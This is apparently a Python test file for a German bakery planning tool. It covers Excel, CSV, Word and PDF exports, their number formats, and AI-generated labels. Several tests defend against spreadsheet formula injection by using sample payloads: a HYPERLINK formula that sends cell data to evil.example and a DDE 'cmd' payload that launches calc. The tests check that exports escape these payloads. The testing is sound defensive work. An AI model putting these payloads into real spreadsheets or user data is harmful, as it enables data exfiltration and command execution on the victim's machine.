"""File exports: Excel with German headers and number formats, CSV for German Excel, Word for the job ad."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from agents.exports.attach import files_for
from agents.exports.tables import production_plan
from tools.exports.csv import write_csv
from tools.exports.docx import write_docx
from tools.exports.table import Column, Table
from tools.exports.xlsx import write_xlsx
from tools.production.plan import plan_day
from tools.settings import get_settings


@pytest.fixture(scope="module")
def plan_data() -> dict[str, Any]:
    day = get_settings().today() + timedelta(days=3)
    return plan_day(day, ["stendal_markt", "gardelegen"], ["roggenbrot", "schrippe", "stollen"]).model_dump(mode="json")


def _german_float(text: str) -> float:
    assert "." not in text  # no thousands separator, decimal comma only
    return float(text.replace(",", "."))


def test_xlsx_has_german_headers_formats_and_the_tool_values(plan_data: dict[str, Any]) -> None:
    tables = production_plan(plan_data)
    path = write_xlsx(tables, "produktionsplan")
    assert path.parent == get_settings().var_dir / "exports" and path.suffix == ".xlsx"
    wb = load_workbook(path)
    ws = wb[wb.sheetnames[0]]
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["Datum", "Filiale", "Produkt", "Backmenge (Stück)"]
    col = {h: i + 1 for i, h in enumerate(headers)}
    items = plan_data["items"]
    assert ws.max_row == len(items) + 1
    for r, item in enumerate(items, start=2):
        assert ws.cell(r, col["Backmenge (Stück)"]).value == item["quantity"]
        assert ws.cell(r, col["erw. Retoure (Stück)"]).value == pytest.approx(item["expected_returns"])
        assert ws.cell(r, col["Preis"]).value == pytest.approx(item["price_eur"])
        assert ws.cell(r, col["Datum"]).value.date() == date.fromisoformat(plan_data["day"])
    assert ws.cell(2, col["Backmenge (Stück)"]).number_format == "#,##0"
    assert ws.cell(2, col["Preis"]).number_format == "#,##0.00 €"
    assert ws.cell(2, col["Ausverkauft-Wahrscheinlichkeit"]).number_format == "0.0%"
    assert ws.cell(2, col["Datum"]).number_format == "DD.MM.YYYY"
    assert wb.sheetnames[1:] == ["Summen je Produkt", "Rohstoffe"]


def test_csv_parses_back_with_semicolon_and_decimal_comma(plan_data: dict[str, Any]) -> None:
    table = production_plan(plan_data)[0]
    path = write_csv(table, "produktionsplan")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: German Excel opens umlauts correctly
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert "Backmenge (Stück)" in header and "Ausverkauft-Wahrscheinlichkeit (%)" in header
    h = {name: i for i, name in enumerate(header)}
    for row, item in zip(body, plan_data["items"], strict=True):
        assert int(row[h["Backmenge (Stück)"]]) == item["quantity"]
        assert _german_float(row[h["Prognose (Stück)"]]) == pytest.approx(item["forecast"], abs=0.005)
        assert _german_float(row[h["Preis"]]) == pytest.approx(item["price_eur"], abs=0.005)
        # one decimal place: off by up to 0.05, plus the float error of a value like 22.95
        assert _german_float(row[h["Ausverkauft-Wahrscheinlichkeit (%)"]]) == pytest.approx(
            100 * item["sellout_prob"], abs=0.0501
        )
        assert row[h["Datum"]] == date.fromisoformat(plan_data["day"]).strftime("%d.%m.%Y")


def test_view_without_money_drops_money_columns(plan_data: dict[str, Any]) -> None:
    files = files_for("production_plan", plan_data, "xlsx", "quantities")
    ws = load_workbook(files[0].path).worksheets[0]
    headers = [c.value for c in ws[1]]
    assert "Backmenge (Stück)" in headers
    assert not {"Preis", "Herstellkosten", "erw. Retourenwert"} & set(headers)
    full = load_workbook(files_for("production_plan", plan_data, "xlsx", "full")[0].path).worksheets[0]
    assert "Preis" in [c.value for c in full[1]]


def test_csv_per_table_and_word_with_tables(plan_data: dict[str, Any]) -> None:
    csvs = files_for("production_plan", plan_data, "csv", "full")
    assert [a.path.suffix for a in csvs] == [".csv"] * 3 and all(a.mime == "text/csv" for a in csvs)
    word = files_for("production_plan", plan_data, "docx", "full")
    doc = Document(str(word[0].path))
    assert len(doc.tables) == 3 and doc.tables[0].rows[0].cells[3].text == "Backmenge (Stück)"
    assert len(doc.tables[0].rows) == len(plan_data["items"]) + 1


def test_job_ad_as_word_contains_the_text() -> None:
    ad = (
        "# Verkäufer/in (m/w/d) in Gardelegen\n\nWir suchen **ab sofort** Verstärkung.\n- 20 Stunden pro Woche\n- Tarif"
    )
    campaign = {"role": "Verkauf", "title": "Verkäufer/in (m/w/d)", "job_ad": ad, "benefits_source": "Handbuch"}
    files = files_for("recruiting_campaign", {"campaigns": [campaign]}, "file", "full")
    assert len(files) == 1 and files[0].path.suffix == ".docx"
    doc = Document(str(files[0].path))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Wir suchen ab sofort Verstärkung." in text and "20 Stunden pro Woche" in text
    assert "KI-generierter Entwurf" in text
    bold = [r.text for p in doc.paragraphs for r in p.runs if r.bold]
    assert "ab sofort" in bold


def test_cells_are_typed_and_empty_values_stay_empty() -> None:
    table = Table(
        title="Liquidität: Test/1",
        columns=[Column(key="d", header="Datum", kind="date"), Column(key="x", header="Saldo", kind="eur")],
        rows=[{"d": "2026-12-01", "x": 1234.5}, {"d": "2026-12-02", "x": None}],
    )
    ws = load_workbook(write_xlsx([table], "liq")).worksheets[0]
    assert ws.title == "Liquidität  Test 1"  # characters Excel forbids in sheet names are replaced
    assert ws["B2"].value == 1234.5 and ws["B3"].value is None
    lines = write_csv(table, "liq").read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["Datum;Saldo", "01.12.2026;1234,50", "02.12.2026;"]
    assert write_docx("T", "Text", "t").suffix == ".docx"


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _names_table() -> Table:
    """Text cells as an uploaded sales file may name its series (hostile test 13: formula injection)."""
    rows = [{"name": n, "pieces": 3} for n in [*HOSTILE_CELLS, "Roggenbrot", "-"]]
    return Table(
        title="Reihen",
        columns=[Column(key="name", header="Reihe"), Column(key="pieces", header="Stück", kind="int")],
        rows=rows,
    )


def test_csv_text_cells_never_start_a_formula() -> None:
    path = write_csv(_names_table(), "formeln")
    with path.open(encoding="utf-8-sig") as fh:
        cells = [row[0] for row in csv.reader(fh, delimiter=";")][1:]
    assert cells[: len(HOSTILE_CELLS)] == [f"'{c}" for c in HOSTILE_CELLS]
    assert cells[-2:] == ["Roggenbrot", "-"]  # ordinary names and a bare dash stay as they are


def test_xlsx_text_cells_are_text_not_formulas() -> None:
    path = write_xlsx([_names_table()], "formeln")
    ws = load_workbook(path).active
    cells = [ws.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE_CELLS))]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == [f"'{c}" for c in HOSTILE_CELLS]
    assert ws.cell(row=2, column=2).value == 3


def test_the_cli_frame_csv_keeps_names_from_a_file_as_text(tmp_path: Path) -> None:
    """hostile13 #16: `synerki forecast predict` / `plan production --sales` wrote series and product names from the
    user's file as they came; „=HYPERLINK(…)“ ran as a formula in Excel. Numbers and dates stay as they were."""
    import pandas as pd

    from tools.exports.csv import write_frame_csv

    frame = pd.DataFrame(
        {
            "date": ["2026-11-26", "2026-11-27"],
            "series": ['=HYPERLINK("http://x","klick")', "Roggenbrot"],
            "forecast": [12.3456, -1.0],
            "note": ["-2", "+1+cmd|' /C calc'!A0"],
        }
    )
    out = write_frame_csv(frame, tmp_path / "sub" / "prognose.csv", float_format="%.3f")
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert back["series"].tolist() == ['\'=HYPERLINK("http://x","klick")', "Roggenbrot"]
    assert back["note"].tolist() == ["-2", "'+1+cmd|' /C calc'!A0"]
    assert back["forecast"].tolist() == ["12.346", "-1.000"] and back["date"].tolist() == ["2026-11-26", "2026-11-27"]
    assert not list((tmp_path / "sub").glob("*.tmp"))


def test_pdf_has_the_chart_on_the_first_page_and_german_numbers(plan_data: dict[str, Any], tmp_path: Path) -> None:
    from pypdf import PdfReader

    from tools.charts import new_figure, save_figure
    from tools.exports.pdf import write_pdf

    fig, ax = new_figure(8, 4)
    ax.plot([1, 2], [3, 4])
    chart = save_figure(fig, "pdf-test")
    tables = production_plan(plan_data)
    path = write_pdf("Produktionsplan", tables, "produktionsplan", images=[chart])
    pages = PdfReader(path).pages
    assert path.suffix == ".pdf" and len(pages[0].images) == 1
    text = "".join(p.extract_text() for p in pages)
    assert "Backmenge (Stück)" in text and "Summen je Produkt" in text
    assert all(str(item["quantity"]) in text for item in plan_data["items"])


def test_word_and_excel_files_of_a_model_result_say_an_ai_system_made_them(plan_data: dict[str, Any]) -> None:
    """hostile28: the PDF and every chart say „KI-generiert“, but the same plan as Word or Excel did not (EU AI Act
    Art. 50): Word ends with the note and carries it in its properties, Excel in its properties and each sheet's
    printed footer – its cells stay the bare table."""
    [word] = files_for("production_plan", plan_data, "docx", "full")
    doc = Document(str(word.path))
    assert "KI-generiert" in doc.paragraphs[-1].text and "KI-generiert" in doc.core_properties.comments
    [excel] = files_for("production_plan", plan_data, "xlsx", "full")
    wb = load_workbook(excel.path)
    assert "KI-generiert" in (wb.properties.description or "") and "KI-generiert" in (wb.properties.keywords or "")
    ws = wb.worksheets[0]
    assert "KI-generiert" in (ws.oddFooter.center.text or "")
    assert ws.max_row == len(plan_data["items"]) + 1  # no line added below the table
